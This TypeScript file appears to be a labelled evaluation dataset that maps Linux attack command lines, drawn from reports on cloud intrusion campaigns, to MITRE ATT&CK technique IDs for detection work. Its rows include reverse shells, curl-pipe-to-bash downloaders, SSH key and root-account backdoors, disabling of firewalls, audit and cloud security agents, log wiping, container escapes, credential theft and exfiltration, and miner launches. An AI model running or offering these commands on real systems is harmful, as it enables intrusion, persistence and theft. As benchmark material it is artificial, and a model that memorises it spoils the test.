/**
 * Command lines as public reports on attacks against clouds have them (TeamTNT, Kinsing, WatchDog, 8220, Rocke, Outlaw,
 * Commando Cat, P2PInfect, perfctl, Mirai and its kin), with the techniques of ATT&CK that a reader of the
 * descriptions finds in each. Labelled before the tags were looked at; seven labels were put right afterwards by the
 * descriptions of ATT&CK, so what is measured with them is the agreement with one careful reader. Addresses are those for
 * documentation.
 *
 * How a reader counts: a pipeline or list of commands is a script of a shell, so it is T1059.004 as well; to make a
 * file runnable is T1222.002; to remove files is T1070.004; to end processes or services of others is T1489; what runs
 * behind `sh -c`, in a crontab or in an encoded text counts like what is typed.
 */
export interface LabelledCommand {
  readonly line: string;
  readonly techniques: readonly string[];
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const key =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA8Qx0Qz1J8t1sKq7Yl2pJ0v3cQm8yqk0gkU1k2m3n4o5p6q7r8s9t x';
/** The donation address of the Monero project, as its README prints it. */
const wallet =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

const rows: readonly (readonly [techniques: string, line: string])[] = [
  // Cron, timers, services, start files
  ['T1053.003 T1059.004', "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x/upd') | crontab -"],
  [
    'T1053.003 T1059.004 T1105',
    "echo '*/10 * * * * root curl -fsSL http://192.0.2.4/d.sh | sh' > /etc/cron.d/apache",
  ],
  ['T1053.003', 'cp /tmp/.x/job /var/spool/cron/crontabs/root'],
  [
    'T1053.003 T1059.004 T1222.002',
    'install -m 755 /tmp/k /etc/cron.hourly/pwnrig; chmod +x /etc/cron.hourly/pwnrig',
  ],
  ['T1070.004', 'rm -f /etc/cron.d/zzh /var/spool/cron/root'],
  ['T1053.003', "sed -i '$a @reboot root /usr/bin/.sshd' /etc/crontab"],
  ['T1543.002', 'systemctl enable --now c3pool_miner.service'],
  [
    'T1543.002',
    "printf '[Unit]\\nDescription=bot\\n[Service]\\nExecStart=/usr/sbin/bot\\n' > /lib/systemd/system/bot.service",
  ],
  ['T1543.002', 'systemctl daemon-reload'],
  ['T1053.006', 'cp upd.timer /etc/systemd/system/upd.timer'],
  ['T1037.004', 'cp /tmp/pwnrig /etc/init.d/pwnrig'],
  ['T1037.004', 'update-rc.d pwnrig defaults'],
  ['T1546.004', "echo 'nohup /dev/shm/.k >/dev/null 2>&1 &' >> /root/.bash_profile"],
  ['T1546.004', "echo '/usr/local/bin/.k &' > /etc/profile.d/apt.sh"],
  ['T1053.002 T1059.004', "echo '/tmp/.x/k' | at now + 1 hour"],

  // Keys and accounts
  [
    'T1059.004 T1070.004 T1098.004 T1222.002',
    `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key}" >> .ssh/authorized_keys && chmod -R go= ~/.ssh`,
  ],
  ['T1059.004 T1098.004 T1611', `chroot /mnt sh -c 'echo "${key}" >> /root/.ssh/authorized_keys'`],
  ['T1059.004 T1098.004', `echo '${key}' | tee -a /home/ubuntu/.ssh/authorized_keys2`],
  ['T1059.004 T1136.001', 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hilde; echo done'],
  ['T1059.004 T1098', "echo 'root:Kw7!xx' | chpasswd | bash"],
  ['T1059.004 T1098', 'echo -e "x\\nnew\\nnew" | passwd'],
  ['T1098', 'usermod -aG sudo hilde'],
  ['T1548.003', "echo 'hilde ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/hilde"],
  ['T1548.001 T1222.002', 'chmod +s /usr/bin/find'],
  ['T1098.004 T1485 T1059.004', 'FLUSHALL; CONFIG SET dir /root/.ssh/'],

  // Files made fast, rights
  ['T1222.002', 'chattr -ia /etc/ld.so.preload'],
  ['T1222.002 T1059.004', 'cd ~; chattr -ia .ssh; lockr -ia .ssh'],
  ['T1222.002', 'chattr +i /root/.ssh/authorized_keys'],
  ['T1222.002', 'chmod 600 /root/.ssh/authorized_keys'],
  ['T1222.002', 'chown root:root /usr/bin/.sshd'],
  ['T1222.002', 'setfacl -m u:x:rwx /etc/crontab'],

  // Defences
  ['T1562.001 T1059.004', 'setenforce 0; echo SELINUX=disabled > /etc/selinux/config'],
  ['T1562.001', "sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config"],
  ['T1562.004', 'iptables -F'],
  ['T1562.004 T1059.004', 'iptables -P INPUT ACCEPT; iptables -t nat -F; ufw disable'],
  ['T1562.004', 'iptables -I INPUT -s 198.51.100.9 -j DROP'],
  ['T1489 T1562.004', 'systemctl stop firewalld'],
  ['T1562.012', 'systemctl disable auditd'],
  ['T1562.012', 'auditctl -e 0'],
  ['T1562.001 T1489', 'systemctl stop aliyun.service'],
  [
    'T1562.001 T1105 T1059.004',
    'wget http://update.aegis.aliyun.com/download/uninstall.sh && bash uninstall.sh',
  ],
  ['T1059.004 T1562.001', '/usr/local/qcloud/stargate/admin/uninstall.sh'],
  ['T1562.001', '/usr/local/cloudmonitor/CmsGoAgent.linux-amd64 stop'],
  ['T1562.001 T1489', 'pkill -9 aegis'],
  ['T1562.001 T1070.004', 'rm -rf /usr/local/aegis'],
  ['T1562.001', 'apt-get remove -y bcm-agent'],
  ['T1562.001', 'systemctl disable apparmor'],
  ['T1562.003', 'export HISTFILE=/dev/null'],
  ['T1562.003 T1059.004', 'unset HISTFILE; set +o history'],
  ['T1070.003', 'history -cw'],
  ['T1070.003', 'ln -sf /dev/null ~/.bash_history'],
  ['T1070.003', 'cat /dev/null > /root/.bash_history'],
  ['T1070.002', 'echo > /var/log/wtmp'],
  ['T1070.002', 'truncate -s 0 /var/log/auth.log'],
  ['T1070.002', 'journalctl --vacuum-time=1s'],
  ['T1070.004', 'rm -rf /tmp/.ICE-unix/x'],
  ['T1070.004', 'shred -u /tmp/k.sh'],
  ['T1070.006', 'touch -d "2019-01-01" /usr/bin/.sshd'],

  // Hiding and loading
  ['T1574.006 T1014', 'echo /usr/local/lib/libhide.so >> /etc/ld.so.preload'],
  ['T1574.006', 'LD_PRELOAD=/tmp/libx.so /usr/sbin/sshd'],
  ['T1574.006', 'export LD_PRELOAD=/lib/libgcwrap.so'],
  ['T1014 T1547.006', 'insmod /tmp/diamorphine.ko'],
  ['T1547.006', 'modprobe nf_hook'],
  [
    'T1059.004 T1105 T1014',
    'wget http://192.0.2.7/libprocesshider.c -O /tmp/p.c; gcc -shared /tmp/p.c -o /tmp/p.so',
  ],
  ['T1564.001', 'mkdir -p /dev/shm/.x11'],
  ['T1036.005', 'cp /tmp/k /usr/sbin/kworkerds'],

  // Fetch and run
  ['T1105 T1059.004', 'curl -s http://192.0.2.8/ldr.sh | bash'],
  [
    'T1105 T1059.004 T1222.002',
    'wget http://192.0.2.8/kinsing -O /tmp/kinsing && chmod 777 /tmp/kinsing && /tmp/kinsing',
  ],
  ['T1105', 'tftp -g -r bot.arm7 192.0.2.8'],
  ['T1105', 'busybox wget http://192.0.2.8/bins/x86'],
  ['T1105', 'ftpget -u anonymous 192.0.2.8 a a'],
  ['T1105 T1059.006', `python3 -c "import urllib.request as r;exec(r.urlopen('http://192.0.2.8/a').read())"`],
  ['T1105 T1059.004', 'bash <(curl -sL http://192.0.2.8/i.sh)'],
  ['T1105', 'scp root@192.0.2.8:/srv/x /tmp/x'],
  ['T1105', 'git clone https://github.com/example/tool.git'],
  [
    'T1105 T1059.004 T1140 T1027',
    `echo ${base64('curl -fsSL http://192.0.2.8/xmra64 -o /tmp/a')} | base64 -d | bash`,
  ],
  ['T1105 T1059.004 T1095', 'exec 3<>/dev/tcp/192.0.2.8/80; cat <&3 > /tmp/k'],
  ['T1095 T1059.004', 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'],
  ['T1095', 'nc 192.0.2.9 443 -e /bin/sh'],
  [
    'T1059.004 T1059.006 T1095',
    `python -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.9",1));pty.spawn("/bin/bash")'`,
  ],
  ['T1090.003 T1105', 'curl --socks5-hostname 127.0.0.1:9050 http://abcdefghij234567.onion/x -o /tmp/x'],
  ['T1219', 'tmate -F new-session'],
  ['T1572', 'ssh -fN -R 2222:127.0.0.1:22 t@192.0.2.9'],

  // Out of the container
  ['T1611', 'nsenter --target 1 --mount --uts --ipc --net --pid'],
  ['T1059.004 T1611', 'nsenter -t 1 -m -- sh -c "echo"'],
  ['T1611', 'chroot /host /bin/true'],
  ['T1611', 'mount /dev/vda1 /mnt/host'],
  ['T1611 T1610', 'docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host'],
  ['T1611', "echo '/x/cmd' > /tmp/cgrp/release_agent"],
  ['T1610', 'docker -H tcp://192.0.2.10:2375 run -d example/dockgeddon'],
  ['T1609 T1033', 'docker exec web id'],
  ['T1609', 'curl -sk -XPOST https://192.0.2.10:10250/run/default/web/app -d cmd=ls'],
  ['T1609', 'kubectl exec web -- /tmp/k'],
  ['T1613', 'curl -s http://192.0.2.10:2375/containers/json'],
  ['T1613 T1552.007', 'kubectl get secrets -A -o yaml'],
  ['T1552.001', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],

  // Scanning and moving
  ['T1046', 'masscan 10.0.0.0/8 -p2375,6379,10250 --rate=10000 -oL out'],
  ['T1046', 'zmap -p 22 -o ips 198.51.100.0/24'],
  ['T1046', "pnscan -r'7:\\x3' 198.51.100.0/24 6379"],
  ['T1021.004', 'ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@10.0.0.5 /tmp/x'],
  ['T1110', 'hydra -L users -P words ssh://10.0.0.5'],
  ['T1018 T1552.004 T1059.004', 'cat ~/.ssh/known_hosts; cat ~/.ssh/id_rsa'],

  // Credentials and what leaves
  ['T1552.005', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['T1552.005', 'wget -qO- http://100.100.100.200/latest/meta-data/ram/security-credentials/'],
  ['T1552.001', 'cat /root/.aws/credentials'],
  ['T1552.001 T1083', "find / -name credentials.json -o -name '.env'"],
  ['T1003.008', 'cat /etc/shadow'],
  ['T1087.001', 'cat /etc/passwd'],
  ['T1552.003', 'cat /root/.bash_history'],
  ['T1048', 'curl -F "f=@/tmp/out.tgz" http://192.0.2.11/up.php'],
  ['T1560.001', 'tar czf /tmp/.o.tgz /root/.aws /root/.ssh'],
  ['T1048', 'scp /tmp/.o.tgz evil@192.0.2.11:/in/'],
  ['T1048 T1059.004 T1560.001', 'tar cz /root/.ssh | nc 192.0.2.11 99'],
  ['T1059.009', 'aws sts get-caller-identity'],

  // Mining, rivals
  [`T1496.001`, `./xmrig -o pool.example.org:3333 -u ${wallet} -k --donate-level 1`],
  ['T1496.001', 'nohup /tmp/.x/xmrig -c /tmp/.x/config.json &'],
  ['T1496.001', 'sysctl -w vm.nr_hugepages=1280'],
  ['T1496.001', 'wrmsr -a 0x1a4 0xf'],
  ['T1489', 'pkill -f kdevtmpfsi'],
  ['T1489', 'killall -9 xmr-stak'],
  [
    'T1489 T1057 T1059.004',
    "ps aux | grep -v grep | grep -E 'kinsing|kdevtmpfsi' | awk '{print $2}' | xargs -I % kill -9 %",
  ],
  ['T1489', 'docker rm -f rival'],
  ['T1565.001', "echo '0.0.0.0 pool.example.org' >> /etc/hosts"],

  // Looking around
  ['T1082', 'uname -s -v -n -r -m'],
  ['T1082 T1059.004', 'cat /proc/cpuinfo | grep name | wc -l'],
  ['T1082', 'lscpu'],
  ['T1033', 'w'],
  ['', 'crontab -l'],
  ['T1083', 'ls -lh /usr/bin/ls'],
  ['T1057', 'top'],
  ['T1016', 'ifconfig'],
  ['T1049 T1059.004', 'netstat -antp | grep LISTEN'],
  ['T1518.001 T1057 T1059.004', 'ps -ef | grep -i aegis'],
  ['T1082', 'nvidia-smi -q'],
  ['T1529', 'reboot'],

  // Nothing of the kind
  ['', 'cd /tmp'],
  ['', 'echo hello'],
  ['', 'export PATH=$PATH:/usr/local/bin'],
  ['', 'mkdir -p /srv/data'],
  ['', 'apt-get install -y curl'],
  ['', 'sleep 30'],
  ['', 'which curl'],
  ['', 'date'],
];

export const labelledCommands: readonly LabelledCommand[] = rows.map(([ids, line]) => ({
  line,
  techniques: ids.split(' ').filter(Boolean),
}));
